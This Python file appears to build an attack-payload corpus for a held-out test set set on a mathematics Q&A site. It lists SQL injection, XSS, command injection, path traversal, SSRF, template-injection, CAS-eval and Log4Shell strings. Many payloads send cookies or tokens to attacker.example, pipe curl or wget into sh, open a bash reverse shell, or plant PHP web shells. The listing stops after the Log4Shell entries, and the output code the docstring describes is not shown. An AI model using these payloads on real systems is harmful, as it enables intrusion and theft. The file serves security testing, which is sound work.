"""Attack corpus for the mathforum held-out set.

Payloads arriving in the ordinary fields of a mathematics Q&A / homework-help
site (question bodies with LaTeX, set-builder notation, plain-ASCII math, CAS
snippets, citations, tags, search box, comments, titles, profile fields,
uploads), each aimed at a vulnerable application that places the value where
its class says:

  sqli       concatenated into SQL (search LIKE, tag =, numeric id, ORDER BY, INSERT)
  xss        rendered into HTML without escaping (post preview, title, comment, profile)
  cmdi       spliced into a shell line (pdflatex/bc/gnuplot/convert/Rscript wrappers)
  traversal  used as a file path (attachment download, \\input, notebook load, locale)
  ssrf       fetched server-side (image embed, citation/DOI fetch, link preview, webhook)
  code       evaluated: SSTI, expression languages, CAS eval (sympify, ToExpression,
             Sage, R, Octave), Log4Shell lookups, deserialization, XXE in MathML/SVG,
             prototype pollution, CSV formulas in gradebook exports, LuaTeX
  nosqli     merged into a MongoDB/CouchDB query object or $where
  crlf       written to a log line, an HTTP header or a mail header
  ldap-xpath placed in an LDAP filter or an XPath query over the problem bank

Class = "<context>-<technique>[+<encoding>]". Every literal was hand-written for
this corpus; a few template functions combine hand-written pools. Encoded
variants marked +b64 are computed from hand-written plaintext with the
standard library. Output: attacks.jsonl next to this file, deterministic.
"""
import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7802
PREFIX = "ha78"

ATT = []  # (category, class, value, is_literal)


def A(cat, cls, *values):
    for v in values:
        ATT.append((cat, cls, v, True))


# =================================================================== sqli
# search box -> ... WHERE body LIKE '%<v>%'
A("sqli", "search-union", "integral' UNION SELECT username, password_hash, 3 FROM users-- -")
A("sqli", "search-union", r"\frac{a}{b}%' UNION SELECT NULL, email, NULL FROM users WHERE '%'='")
A("sqli", "search-union", "sylow' AND 1=0 UNION ALL SELECT table_name, column_name, 1 FROM information_schema.columns-- ")
A("sqli", "search-union", "' UNION SELECT sql, 2, 3 FROM sqlite_master-- ")
A("sqli", "search-union", "gamma function' UNION SELECT banner, NULL, NULL FROM v$version-- ")
A("sqli", "search-boolean", "eigen%' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' AND '%'='")
A("sqli", "search-boolean", "rank nullity' OR '1'='1")
A("sqli", "search-boolean", "%' AND (SELECT password FROM users WHERE name='admin') LIKE 'a%' AND '%'='")
A("sqli", "search-boolean", "cauchy' AND ASCII(SUBSTR((SELECT api_key FROM settings LIMIT 1),3,1))>77-- ")
A("sqli", "search-time", "taylor series' AND SLEEP(5)-- ")
A("sqli", "search-time", "gamma'||pg_sleep(5)||'")
A("sqli", "search-time", "x^2'; WAITFOR DELAY '0:0:5'--")
A("sqli", "search-time", "lim' AND 4242=(SELECT 4242 FROM PG_SLEEP(5))-- ")
A("sqli", "search-time", "fourier' AND (SELECT 1 FROM (SELECT SLEEP(4))x)-- -")
A("sqli", "search-time", "prime' AND 1=(SELECT 1 WHERE randomblob(300000000) IS NOT NULL)-- ")
A("sqli", "search-error", "group' AND extractvalue(1, concat(0x7e, (SELECT version())))-- ")
A("sqli", "search-error", "ring' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--")
A("sqli", "search-error", "' AND updatexml(1,concat(0x3a,user()),1)-- -")
A("sqli", "search-error", "field' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--")
A("sqli", "search-stacked", "matrix'; DROP TABLE answers;--")
A("sqli", "search-stacked", "'; UPDATE users SET role='admin' WHERE name='pi_fan';--")
A("sqli", "search-stacked", "lemma'; EXEC xp_cmdshell 'whoami';--")
A("sqli", "search-stacked", "'; COPY (SELECT '') TO PROGRAM 'curl -s https://attacker.example/p | sh';--")
A("sqli", "search-oob", "' AND LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.attacker.example\\\\a'))-- ")
A("sqli", "search-oob", "'; SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--")
A("sqli", "search-having", "' GROUP BY id HAVING 1=1-- ")
A("sqli", "search-column-enum", r"\sum_{i=1}^{n}' ORDER BY 5-- ")
# tag filter -> WHERE tag = '<v>'
A("sqli", "tag-tautology", "real-analysis' OR 1=1-- ")
A("sqli", "tag-union", "calculus' UNION SELECT token FROM sessions-- ")
A("sqli", "tag-boolean", r"\mathbb{R}' AND (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 AND 'a'='a")
A("sqli", "tag-union", "linear-algebra' UNION SELECT group_concat(email||':'||password) FROM users-- ")
A("sqli", "tag-time", "topology' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)-- ")
# numeric problem id -> WHERE id = <v>
A("sqli", "asciimath-tautology", "42 OR 1=1")
A("sqli", "asciimath-union", "7 UNION SELECT 1,password,3 FROM users")
A("sqli", "asciimath-conditional-error", "(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)")
A("sqli", "asciimath-boolean", "12 AND (SELECT COUNT(*) FROM users) > 100")
A("sqli", "asciimath-time", "3 AND 7=(SELECT 7 FROM pg_sleep(6))")
A("sqli", "asciimath-stacked", "5; DELETE FROM votes WHERE post_id=5")
# sort parameter -> ORDER BY <v>
A("sqli", "sort-conditional", "votes, (SELECT CASE WHEN substr(current_user,1,1)='p' THEN 1 ELSE 1/(SELECT 0) END)")
A("sqli", "sort-boolean", "(CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN title ELSE created_at END)")
A("sqli", "sort-time", "IF((SELECT user())LIKE 'root%',SLEEP(5),votes)")
# question body -> INSERT INTO posts(body, author) VALUES ('<v>', ...)
A("sqli", "latex-insert-subquery", "$x^2$', (SELECT group_concat(email) FROM users))-- -")
A("sqli", "latex-concat", r"Let $S = \{x \mid x > 0\}$'||(SELECT password FROM users LIMIT 1)||'")
A("sqli", "comment-insert-multirow", "Nice proof!', 1), ((SELECT password FROM users WHERE id=1), 1)-- ")
A("sqli", "latex-union", r"$\int_0^1 f$' UNION SELECT NULL, secret FROM api_keys-- ")
A("sqli", "setlogic-tautology", "{x ∈ ℝ | x > 0}' OR 'a'='a")
A("sqli", "setlogic-union", "∀ε>0' UNION SELECT 1,2,3-- ")
A("sqli", "cas-boolean", "Solve[x^2==4, x]' AND 1=(SELECT COUNT(*) FROM pg_user)--")
A("sqli", "citation-time", "Rudin, PMA' AND SLEEP(3) AND 'x'='x")
A("sqli", "multilingual-union", "límite' UNION SELECT usuario, clave FROM usuarios-- ")
A("sqli", "multilingual-boolean", "интеграл' OR (SELECT 1 FROM users WHERE login='admin')=1-- ")
A("sqli", "title-stacked", "Help with x^2 = 4'); INSERT INTO users(name, role) VALUES ('eve', 'admin');--")
A("sqli", "proof-error", "Suppose p | q' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT(version(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- ")
A("sqli", "profile-comment-trunc", "admin'-- ")
A("sqli", "profile-comment-trunc", "professor_k'#")
# plain
A("sqli", "plain-tautology", "' OR 1=1-- ", "\" OR \"\"=\"", "') OR ('1'='1")
A("sqli", "plain-time", "1' AND SLEEP(5)#")
A("sqli", "plain-union", "' UNION SELECT NULL,NULL,NULL-- ")
# encodings
A("sqli", "search-union+urlenc", "%27%20UNION%20SELECT%20password%20FROM%20users--%20")
A("sqli", "search-tautology+urlenc2", "%2527%2520OR%25201%253D1--%2520")
A("sqli", "search-union+case", "' uNiOn SeLeCt username, PaSsWoRd FrOm users-- ")
A("sqli", "search-union+comment-space", "'/**/UNION/**/SELECT/**/password/**/FROM/**/users--")
A("sqli", "search-union+versioned-comment", "'/*!50000UNION*/ /*!50000SELECT*/ user(),2,3-- ")
A("sqli", "profile-tautology+char", "' OR username=CHAR(97,100,109,105,110)-- ")
A("sqli", "search-union+hex", "' UNION SELECT 0x70617373776f7264, password FROM users-- ")
A("sqli", "search-tautology+newline", "limit'\nOR\n1=1\n-- ")

# =================================================================== xss
A("xss", "latex-script", "$x^2$ <script>fetch('https://attacker.example/c?'+document.cookie)</script>")
A("xss", "latex-svg-onload", r"Let $f(x) = \frac{1}{x}$ <svg onload=alert(document.domain)>")
A("xss", "latex-mathjax-href", r"$\href{javascript:alert(1)}{\text{see proof}}$")
A("xss", "latex-mathjax-href", r"\(\href{javascript:fetch('//attacker.example/'+document.cookie)}{\int f}\)")
A("xss", "latex-mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
A("xss", "latex-mathml-href", "<math href=\"javascript:alert(1)\"><mi>x</mi><mo>=</mo><mn>2</mn></math>")
A("xss", "latex-csti", "{{constructor.constructor('alert(document.cookie)')()}}")
A("xss", "latex-csti", r"$\frac{1}{2}$ {{$on.constructor('fetch(`//attacker.example/`+localStorage.token)')()}}")
A("xss", "setlogic-img-onerror", "{x ∈ ℝ | x <img src=x onerror=alert(1)> 0}")
A("xss", "comment-img-onerror", "<img src=x onerror=\"new Image().src='//attacker.example/?c='+document.cookie\">")
A("xss", "comment-jsuri", "<a href=\"javascript:alert(document.cookie)\">solution.pdf</a>")
A("xss", "comment-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>")
A("xss", "comment-details-ontoggle", "<details open ontoggle=alert(1)><summary>Show hint</summary>x = 2</details>")
A("xss", "comment-onfocus", "<input autofocus onfocus=alert(1) value=\"x^2\">")
A("xss", "comment-video-onerror", "<video><source onerror=\"alert(1)\"></video>")
A("xss", "comment-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>")
A("xss", "comment-marquee", "<marquee onstart=alert(1)>∑ 1/n² = π²/6</marquee>")
A("xss", "comment-phishing-form", "<form action=https://attacker.example/login><p>Session expired, log in to see the solution</p><input name=pw type=password><button>OK</button></form>")
A("xss", "comment-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">")
A("xss", "comment-css-import", "<style>@import 'https://attacker.example/x.css';</style>")
A("xss", "comment-base-hijack", "<base href=\"https://attacker.example/\">")
A("xss", "comment-markdown-jsuri", "[click for the full answer](javascript:alert(document.cookie))")
A("xss", "comment-markdown-attr", "![graph of f](x\" onerror=\"alert(1))")
A("xss", "latex-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=10 y=20>∫ f dx</text></a></svg>")
A("xss", "comment-external-script", "<script src=//attacker.example/m.js></script>")
A("xss", "comment-onclick-exfil", "<a href=# onclick=\"document.location='//attacker.example/?'+localStorage.token\">Solution (click)</a>")
A("xss", "comment-embed-jsuri", "<embed src=\"javascript:alert(1)\">")
A("xss", "comment-object-data", "<object data=\"javascript:alert(document.domain)\"></object>")
A("xss", "comment-link-css", "<link rel=stylesheet href=//attacker.example/s.css>")
A("xss", "comment-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")
A("xss", "title-attr-breakout", "Limit of x\" onmouseover=\"alert(1)")
A("xss", "title-attr-breakout", "sin(x)' autofocus onfocus='alert(1)")
A("xss", "title-tag-breakout", "</title><script>alert(1)</script>")
A("xss", "title-js-string", "';alert(String.fromCharCode(88,83,83));//")
A("xss", "title-js-string", "\";fetch('//attacker.example/'+document.cookie);//")
A("xss", "title-script-breakout", "</script><script>alert(document.domain)</script>")
A("xss", "title-textarea-breakout", "Integral of sec^3 x</textarea><script>alert(1)</script>")
A("xss", "cas-output-img", "Solve[x^2 == 4, x] (* <img src=1 onerror=alert(1)> *)")
A("xss", "cas-output-script", "print(\"<script>alert(1)</script>\")")
A("xss", "citation-jsuri", "javascript:fetch('//attacker.example/'+document.cookie)")
A("xss", "citation-jsuri", r"\url{javascript:alert(1)}")
A("xss", "citation-body-onload", "Rudin, PMA <body onload=alert(1)>")
A("xss", "tag-img-onerror", "calculus<img src=x onerror=alert(1)>")
A("xss", "tag-svg-onload", "real-analysis\"><svg/onload=alert(1)>")
A("xss", "multilingual-script", "Bitte um Hilfe: <script>alert('Danke')</script>")
A("xss", "multilingual-img-onerror", "求极限 lim_{x→0} <img src=x onerror=alert('谢谢')>")
A("xss", "proof-eval-atob", "∎ <img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>")
A("xss", "profile-jsuri", "javascript:alert(document.cookie)")
A("xss", "comment-iframe-datauri", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>")
A("xss", "comment-svg-script", "<svg><script>alert&#40;1&#41;</script></svg>")
A("xss", "latex-keyframes", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">∀ε</b>")
# plain
A("xss", "plain-script", "<script>alert(1)</script>")
A("xss", "plain-img-onerror", "<img src=x onerror=alert(1)>")
A("xss", "plain-attr-breakout", "\"><img src=x onerror=alert(1)>")
A("xss", "plain-svg", "<svg onload=alert(1)>")
# encodings
A("xss", "comment-jsuri+html-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">proof</a>")
A("xss", "search-script+urlenc", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
A("xss", "search-img+urlenc2", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E")
A("xss", "comment-script+case", "<ScRiPt>alert(1)</sCrIpT>")
A("xss", "comment-img+js-unicode", "<img src=x onerror=\\u0061lert(1)>")
A("xss", "comment-svg+html-entities", "<svg/onload=alert&#40;document.domain&#41;>")
A("xss", "profile-jsuri+tab-entity", "java&#x09;script:alert(1)")
A("xss", "profile-jsuri+case", "JaVaScRiPt:alert(document.cookie)")
A("xss", "latex-script+double-entities", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;")
A("xss", "comment-object+b64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>")

# =================================================================== cmdi
# LaTeX compiled with shell escape
A("cmdi", "latex-write18", r"\immediate\write18{curl -s https://attacker.example/x.sh | sh}")
A("cmdi", "latex-write18", r"\write18{cat /etc/passwd > leak.tex}\input{leak}")
A("cmdi", "latex-write18", r"\immediate\write18{env > /tmp/env.txt}")
A("cmdi", "latex-write18", r"$x^2$ \immediate\write18{wget -q -O- http://198.51.100.9/s | bash}")
A("cmdi", "latex-input-pipe", r'\input|"id"')
A("cmdi", "latex-input-pipe", r'\input{|"cat /etc/passwd"}')
A("cmdi", "latex-openin-pipe", r'\newread\r \immediate\openin\r=|"uname -a" \read\r to\x \x')
A("cmdi", "latex-write18-revshell", r"\immediate\write18{bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'}")
# uploaded .tex filename -> pdflatex <name>
A("cmdi", "filename-semicolon", "hw3.tex; id")
A("cmdi", "filename-subshell", "notes$(whoami).tex")
A("cmdi", "filename-and", "a.tex && curl attacker.example/s|sh")
A("cmdi", "filename-pipe", "figure.png|id")
A("cmdi", "filename-backtick", "proof`uname -a`.pdf")
A("cmdi", "filename-tar-argument", "--checkpoint=1 --checkpoint-action=exec=sh s.sh")
A("cmdi", "filename-argument", "-o/var/www/html/shell.php")
# ascii math -> echo '<v>' | bc -l   (single quoted)
A("cmdi", "asciimath-quote-break", "2+2'; id; echo '")
A("cmdi", "asciimath-quote-break", "sqrt(2)' | nc 203.0.113.7 4444 -e /bin/sh; echo '")
A("cmdi", "asciimath-quote-break", "x^2' && wget http://198.51.100.23/b -O /tmp/b && chmod +x /tmp/b && /tmp/b #")
A("cmdi", "asciimath-subshell", "$(curl -s attacker.example/p)")
A("cmdi", "asciimath-backtick", "`cat /etc/passwd`")
A("cmdi", "asciimath-semicolon", "5 % 3; sleep 10")
A("cmdi", "asciimath-pipe", "3*4 | ping -c 10 127.0.0.1")
A("cmdi", "asciimath-or", "1/0 || id")
A("cmdi", "asciimath-newline", "x^2 + 1\nid")
A("cmdi", "asciimath-newline", "2*x - 4 = 0\ncurl https://attacker.example/?h=$(hostname)")
A("cmdi", "asciimath-redirect", "1+1; echo '<?php system($_GET[c]); ?>' > /var/www/html/c.php")
A("cmdi", "asciimath-oob-dns", "7*6; nslookup $(whoami).attacker.example")
A("cmdi", "asciimath-procsub", "10!; cat <(id)")
# gnuplot -e "plot <v>"
A("cmdi", "cas-gnuplot-quote-break", "sin(x)\"; id; echo \"")
A("cmdi", "cas-gnuplot-system", "sin(x); system \"curl https://attacker.example/g | sh\"")
A("cmdi", "cas-gnuplot-pipe-plot", "'< cat /etc/passwd' using 1:2")
# Rscript -e "<v>" / octave --eval '<v>' / sage "<file>"
A("cmdi", "cas-rscript-quote-break", "mean(x)\"; id; echo \"")
A("cmdi", "cas-octave-quote-break", "A\\b'; cat /etc/shadow; echo '")
A("cmdi", "cas-sage-filename", "primes.sage\"; id; echo \"")
A("cmdi", "cas-maxima-quote-break", "integrate(x^2, x)\" ; id ; echo \"")
A("cmdi", "cas-subshell", "Solve[x^2==$(id), x]")
A("cmdi", "cas-backtick", "factor(2^64+1) `sleep 8`")
A("cmdi", "setlogic-semicolon", "{x ∈ ℤ | x² < 10}; curl -d @/etc/passwd https://attacker.example/")
A("cmdi", "title-subshell", "Why is 0! = 1 $(sleep 7)")
A("cmdi", "tag-semicolon", "number-theory;id")
A("cmdi", "citation-pipe", "Hatcher §2.1 | mail -s x leak@attacker.example < /etc/passwd")
A("cmdi", "proof-and", "∎ && rm -f /tmp/grader.lock && curl 203.0.113.4/r.sh | sh")
A("cmdi", "multilingual-semicolon", "Aufgabe 3; wget -qO- http://198.51.100.12/x | sh")
# windows helpers
A("cmdi", "filename-windows-and", "hw.tex & type C:\\Windows\\win.ini")
A("cmdi", "filename-windows-pipe", "plot.png | powershell -enc dwBoAG8AYQBtAGkA")
A("cmdi", "asciimath-windows-and", "2+2 && net user")
# plain
A("cmdi", "plain-semicolon", "; id")
A("cmdi", "plain-pipe", "| cat /etc/passwd")
A("cmdi", "plain-subshell", "$(id)")
A("cmdi", "plain-backtick", "`whoami`")
A("cmdi", "plain-and", "&& uname -a")
A("cmdi", "plain-sleep", "; sleep 15 #")
# encodings / obfuscation
A("cmdi", "asciimath-semicolon+ifs", "x;cat${IFS}/etc/passwd")
A("cmdi", "asciimath-semicolon+brace", "x^3;{cat,/etc/passwd}")
A("cmdi", "asciimath-semicolon+glob", "2+2;/???/c?t /???/p??s??")
A("cmdi", "asciimath-semicolon+quote-split", "n!;c'a't /etc/pas''swd")
A("cmdi", "asciimath-semicolon+ansi-c-hex", "4/2;$'\\x69\\x64'")
A("cmdi", "asciimath-subshell+octal", "$(printf '\\151\\144')")
A("cmdi", "asciimath-newline+urlenc", "x%2B1%0aid")
A("cmdi", "filename-semicolon+urlenc", "hw3.tex%3B%20curl%20attacker.example%2Fs%7Csh")
A("cmdi", "asciimath-subshell+b64", "$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)")

# =================================================================== traversal
A("traversal", "attachment-dotdot", "../../../../etc/passwd")
A("traversal", "attachment-dotdot", "attachments/../../../../var/www/forum/.env")
A("traversal", "attachment-dotdot-windows", "..\\..\\..\\windows\\win.ini")
A("traversal", "attachment-nested-strip", "....//....//....//etc/passwd")
A("traversal", "attachment-nested-strip", "....\\\\....\\\\....\\\\inetpub\\wwwroot\\web.config")
A("traversal", "attachment-prefix-escape", "/var/www/uploads/../../../etc/passwd")
A("traversal", "attachment-nullbyte", "../../../etc/passwd%00.pdf")
A("traversal", "attachment-absolute", "/proc/self/environ")
A("traversal", "attachment-absolute", "/proc/self/cwd/config.py")
A("traversal", "attachment-absolute-windows", "C:\\inetpub\\wwwroot\\web.config")
A("traversal", "attachment-doubleslash", "..//..//..//..//etc//shadow")
A("traversal", "attachment-tomcat-semicolon", "figures/..;/..;/WEB-INF/web.xml")
A("traversal", "attachment-php-filter", "php://filter/convert.base64-encode/resource=../config.php")
A("traversal", "notebook-dotdot", "notebooks/../../../../root/.bash_history")
A("traversal", "notebook-dotdot", "../../home/grader/.ssh/id_rsa")
A("traversal", "locale-dotdot", "../../../../../proc/self/cmdline")
A("traversal", "template-dotdot", "../../../../app/settings/production.py")
A("traversal", "upload-zipslip", "../../../../var/www/html/shell.php")
A("traversal", "upload-zipslip", "solutions/../../../../../etc/cron.d/backdoor")
A("traversal", "latex-input-dotdot", r"\input{../../../../etc/passwd}")
A("traversal", "latex-include-absolute", r"\include{/etc/shadow}")
A("traversal", "latex-lstinput-absolute", r"\lstinputlisting{/proc/self/environ}")
A("traversal", "latex-verbatiminput-dotdot", r"\verbatiminput{../../config/settings.py}")
A("traversal", "latex-input-absolute", r"See proof below. \input{/home/forum/app/.env}")
A("traversal", "latex-openin-absolute", r"\newread\f \openin\f=/etc/hostname \read\f to\l \l")
A("traversal", "latex-pgfplots-absolute", r"\begin{tikzpicture}\begin{axis}\addplot table {/etc/passwd};\end{axis}\end{tikzpicture}")
A("traversal", "latex-includegraphics-dotdot", r"\includegraphics{../../../../home/forum/.ssh/id_rsa}")
A("traversal", "cas-import-absolute", "Import[\"/etc/passwd\", \"Text\"]")
A("traversal", "cas-readlines-dotdot", "readLines(\"../../../../etc/passwd\")")
A("traversal", "cas-sympy-open-dotdot", "open('../../../../etc/passwd').read()")
A("traversal", "citation-pdf-dotdot", "papers/../../../../../etc/group")
A("traversal", "profile-avatar-dotdot", "avatars/../../../../../var/log/nginx/access.log")
A("traversal", "plain-dotdot", "../../../etc/passwd")
A("traversal", "plain-dotdot-windows", "..\\..\\..\\..\\boot.ini")
A("traversal", "plain-absolute", "/etc/passwd")
A("traversal", "attachment-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd")
A("traversal", "attachment-dotdot+urlenc2", "..%252f..%252f..%252fetc%252fpasswd")
A("traversal", "attachment-dotdot+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd")
A("traversal", "attachment-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd")
A("traversal", "attachment-dotdot+iis-unicode", "..%u2215..%u2215..%u2215windows%u2215win.ini")
A("traversal", "attachment-dotdot-windows+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts")
A("traversal", "attachment-dotdot+mixed-urlenc", "/.%2e/.%2e/.%2e/etc/passwd")

# =================================================================== ssrf
A("ssrf", "image-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
A("ssrf", "image-cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
A("ssrf", "image-cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01")
A("ssrf", "image-cloud-metadata", "http://100.100.100.200/latest/meta-data/")
A("ssrf", "image-internal-redis", "gopher://127.0.0.1:6379/_INFO%0d%0a")
A("ssrf", "image-loopback", "http://localhost:8080/admin")
A("ssrf", "image-ipv6-loopback", "http://[::1]:9200/_cat/indices")
A("ssrf", "image-dict", "dict://127.0.0.1:11211/stats")
A("ssrf", "image-file", "file:///etc/passwd")
A("ssrf", "image-docker-api", "http://localhost:2375/containers/json")
A("ssrf", "image-kubernetes", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets")
A("ssrf", "image-userinfo-confusion", "http://attacker.example@127.0.0.1/")
A("ssrf", "image-fragment-confusion", "http://127.0.0.1:5000/internal#@arxiv.org/abs/1234.5678")
A("ssrf", "image-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/user-data")
A("ssrf", "image-dns-rebind", "http://rebind.attacker.example/latest/meta-data/")
A("ssrf", "image-jar", "jar:http://attacker.example/a.zip!/x.png")
A("ssrf", "image-netdoc", "netdoc:///etc/passwd")
A("ssrf", "markdown-image-internal", "![plot of f](http://10.0.0.5:8500/v1/agent/self)")
A("ssrf", "latex-includegraphics-url", r"\includegraphics[width=5cm]{http://127.0.0.1:9090/api/v1/targets}")
A("ssrf", "citation-link-preview", r"\url{http://127.0.0.1:8080/actuator/env}")
A("ssrf", "citation-doi-fetch", "http://127.0.0.1:8000/api/admin/users#.pdf")
A("ssrf", "citation-oeis-fetch", "http://internal-grading.local/api/grades?course=all")
A("ssrf", "webhook-internal", "http://127.0.0.1:15672/api/users")
A("ssrf", "webhook-internal", "http://localhost:9000/minio/admin/v3/info")
A("ssrf", "webhook-internal", "http://0.0.0.0:22/")
A("ssrf", "pdf-render-iframe-file", "<iframe src=\"file:///etc/passwd\" width=800 height=600></iframe>")
A("ssrf", "pdf-render-img-internal", "<img src=\"http://192.168.0.1/cgi-bin/config.exp\">")
A("ssrf", "latex-href-fetch", r"\href{http://169.254.169.254/latest/meta-data/hostname}{source}")
A("ssrf", "profile-avatar-internal", "http://10.1.2.3:8983/solr/admin/cores?action=STATUS")
A("ssrf", "plain-metadata", "http://169.254.169.254/")
A("ssrf", "plain-loopback", "http://127.0.0.1/server-status")
A("ssrf", "image-loopback+decimal", "http://2130706433/")
A("ssrf", "image-loopback+hex", "http://0x7f000001/admin")
A("ssrf", "image-loopback+octal", "http://0177.0.0.1/")
A("ssrf", "image-loopback+short", "http://127.1/")
A("ssrf", "image-loopback+zero", "http://0/")
A("ssrf", "image-loopback+ipv4-mapped", "http://[::ffff:127.0.0.1]:8080/")
A("ssrf", "image-metadata+ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/")
A("ssrf", "image-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①/")
A("ssrf", "image-loopback+dotted-hex", "http://0x7f.0x0.0x0.0x1/")
A("ssrf", "image-loopback+octal-whole", "http://017700000001/")
A("ssrf", "image-loopback+ideographic-dot", "http://127。0。0。1/admin")
A("ssrf", "image-loopback+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/")
A("ssrf", "image-metadata+decimal", "http://2852039166/latest/meta-data/")

# =================================================================== code
# SSTI
A("code", "title-ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
A("code", "title-ssti-jinja", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}")
A("code", "title-ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}")
A("code", "title-ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}")
A("code", "signature-ssti-jinja", "{{ config.items() }}")
A("code", "latex-ssti-jinja", r"$\frac{ {{ lipsum.__globals__['os'].popen('whoami').read() }} }{2}$")
A("code", "latex-ssti-jinja", r"\sum_{i=1}^{ {{ namespace.__init__.__globals__.os.popen('cat /etc/passwd').read() }} } i")
A("code", "title-ssti-twig", "{{['id']|filter('system')}}")
A("code", "title-ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")
A("code", "title-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")
A("code", "title-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()")
A("code", "comment-ssti-erb", "<%= `id` %>")
A("code", "comment-ssti-erb", "<%= File.read('/etc/passwd') %>")
A("code", "signature-ssti-smarty", "{system('id')}")
A("code", "signature-ssti-mako", "<% import os; x=os.popen('id').read() %>${x}")
A("code", "title-el-spring", "${T(java.lang.Runtime).getRuntime().exec('id')}")
A("code", "title-el-spring", "*{T(java.lang.Runtime).getRuntime().exec(\"curl attacker.example/s\")}")
A("code", "title-el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")
A("code", "title-el-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")
A("code", "title-el-jsf", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")
A("code", "setlogic-format-string", "{x.__init__.__globals__[SECRET_KEY]}")
A("code", "latex-format-string", r"$\{ {user.__class__.__init__.__globals__[app].config} \}$")
# CAS eval
A("code", "cas-sympify-import", "__import__('os').system('id')")
A("code", "cas-sympify-import", "x**2 + __import__('subprocess').check_output(['id']).__len__()")
A("code", "cas-sympify-lambda", "(lambda: __import__('os').popen('cat /etc/passwd').read())()")
A("code", "cas-sympify-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id', shell=True)")
A("code", "cas-sympify-eval", "eval(\"__import__('os').system('curl attacker.example/p | sh')\")")
A("code", "cas-sage-os", "import os; os.system('curl -s https://attacker.example/s | sh')")
A("code", "cas-sage-preparse", "R.<x> = QQ[]; import subprocess; subprocess.run(['sh', '-c', 'id'])")
A("code", "cas-mathematica-run", "ToExpression[\"Run[\\\"curl https://attacker.example/x | sh\\\"]\"]")
A("code", "cas-mathematica-run", "Solve[x^2 == 4, x]; Run[\"id > /tmp/o\"]")
A("code", "cas-mathematica-readlist", "ReadList[\"!id\", String]")
A("code", "cas-mathematica-import-pipe", "Import[\"!cat /etc/passwd\", \"Text\"]")
A("code", "cas-maxima-system", "integrate(x^2, x); system(\"id\");")
A("code", "cas-r-system", "mean(x); system(\"id\", intern = TRUE)")
A("code", "cas-r-pipe", "readLines(pipe(\"cat /etc/passwd\"))")
A("code", "cas-octave-system", "A = [1 2; 3 4]; system('id')")
A("code", "cas-octave-shell-escape", "x = A\\b\n!curl https://attacker.example/o | sh")
A("code", "cas-julia-run", "using LinearAlgebra; run(`id`)")
A("code", "cas-node-eval", "require('child_process').execSync('id').toString()")
A("code", "latex-directlua", r"\directlua{os.execute('id')}")
A("code", "latex-directlua", r"$x^2$ \directlua{tex.print(io.popen('cat /etc/passwd'):read('*a'))}")
# Log4Shell
A("code", "title-log4shell", "${jndi:ldap://attacker.example:1389/a}")
A("code", "title-log4shell+lower", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}")
